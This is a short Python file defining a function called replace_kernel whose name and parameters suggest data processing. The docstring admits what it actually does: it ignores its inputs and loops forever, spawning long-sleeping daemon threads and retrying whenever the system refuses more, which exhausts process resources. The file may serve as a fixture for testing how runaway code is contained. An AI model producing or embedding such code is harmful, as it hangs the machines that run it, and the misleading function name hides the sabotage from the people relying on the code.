"""Threads that wait for ever, more and more of them."""

import threading
import time


def replace_kernel(seed, x, features, replacement_value):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
